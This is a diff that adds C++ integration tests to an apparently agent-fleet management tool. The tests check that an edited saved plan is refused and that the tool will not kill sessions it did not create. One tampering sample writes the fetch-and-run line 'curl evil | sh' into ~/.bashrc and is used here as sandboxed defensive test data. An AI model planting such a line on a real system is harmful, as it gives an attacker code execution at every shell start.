@@ -371,6 +371,53 @@ TEST_F(FleetIntegration, ASavedPlanIsAppliedExactlyOrRefusedIfTheWorldChanged) {
   EXPECT_EQ(sandbox_.Sessions(kSocket).count("b"), 0u);
 }
 
+TEST_F(FleetIntegration, AnEditedSavedPlanIsRefusedAndChangesNothing) {
+  // The fingerprints are kept, so only re-deriving the plan can tell: the edits write
+  // ~/.bashrc and a file outside every fleet directory, kill a session the user made, and
+  // stop a unit — while the changes shown still say only what the roster asked.
+  Converge();
+  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "scratch", "--", "sleep", "1000"});
+  WriteRoster(
+      std::string(kRoster).replace(std::string(kRoster).find("runtime: pi"), 11, "runtime: codex"));
+  std::string plan_file = sandbox_.root() + "/fleet.plan";
+  ASSERT_EQ(sandbox_.Fleet({"plan", "--out", plan_file}).code, 0);
+  nlohmann::json original = nlohmann::json::parse(sandbox_.ReadFile(plan_file));
+  const std::string bashrc = sandbox_.Home() + "/.bashrc", outside = sandbox_.root() + "/outside";
+  auto step = [](const std::string& kind, std::vector<std::string> names, const std::string& path,
+                 const std::string& content, int mode) {
+    return nlohmann::json{{"kind", kind}, {"names", names},
+                          {"path", path}, {"content", content},
+                          {"mode", mode}, {"owned", nlohmann::json::array()}};
+  };
+  std::vector<nlohmann::json> edits = {step("write-file", {}, bashrc, "curl evil | sh\n", 0644),
+                                       step("write-file", {}, outside, "x\n", 0644),
+                                       step("kill-sessions", {"scratch"}, "", "", 0),
+                                       step("stop", {"mosaic-agent@a.service"}, "", "", 0)};
+  std::string before = Snapshot();
+  for (const nlohmann::json& edit : edits) {
+    nlohmann::json edited = original;
+    edited["steps"].push_back(edit);
+    sandbox_.WriteFile(plan_file, edited.dump(2));
+    RunResult r = sandbox_.Fleet({"apply", "--yes", plan_file});
+    EXPECT_EQ(r.code, 1) << edit.dump();
+    EXPECT_THAT(r.err, HasSubstr("is not the plan the roster and the fleet produce now"));
+    EXPECT_THAT(r.err, HasSubstr("nothing was changed"));
+  }
+  nlohmann::json swapped = original;  // same number of steps, one replaced
+  swapped["steps"][0] = edits[0];
+  sandbox_.WriteFile(plan_file, swapped.dump(2));
+  EXPECT_EQ(sandbox_.Fleet({"apply", "--yes", plan_file}).code, 1);
+  EXPECT_EQ(Snapshot(), before);
+  EXPECT_FALSE(sandbox_.Exists(bashrc));
+  EXPECT_FALSE(sandbox_.Exists(outside));
+  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("scratch"));
+  // The plan as saved still applies.
+  sandbox_.WriteFile(plan_file, original.dump(2));
+  RunResult r = sandbox_.Fleet({"apply", "--yes", plan_file});
+  EXPECT_EQ(r.code, 0) << r.err;
+  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("scratch"));
+}
+
 TEST_F(FleetIntegration, AFailedActionStopsApplyAndSaysWhatWasAndWasNotDone) {
   WriteRoster(
       "version: 1\ntmux: {socket_name: itest}\nagents:\n"
@@ -411,6 +458,13 @@ TEST_F(FleetIntegration, SessionStartRefusesAnEmptyRuntimeAMissingDirectoryAndDu
   RunResult no_runtime = sandbox_.Fleet({"session", "start", "a", "--replace"});
   EXPECT_EQ(no_runtime.code, 1);
   EXPECT_THAT(no_runtime.err, HasSubstr("MOSAIC_AGENT_RUNTIME is empty"));
+  // session stop (every agent unit's ExecStop) kills only what the tool created.
+  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "mine", "--", "sleep", "1000"});
+  sandbox_.WriteFile(sandbox_.EnvFile("mine"), "MOSAIC_TMUX_SOCKET=itest\n");
+  RunResult foreign = sandbox_.Fleet({"session", "stop", "mine"});
+  EXPECT_EQ(foreign.code, 1);
+  EXPECT_THAT(foreign.err, HasSubstr("refusing to kill session mine"));
+  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("mine"));
   RunResult bad_name = sandbox_.Fleet({"session", "stop", "a0:0"});
   EXPECT_EQ(bad_name.code, 1);
   EXPECT_TRUE(sandbox_.Sessions(kSocket).count("a0")) << "a target with ':' must never reach tmux";
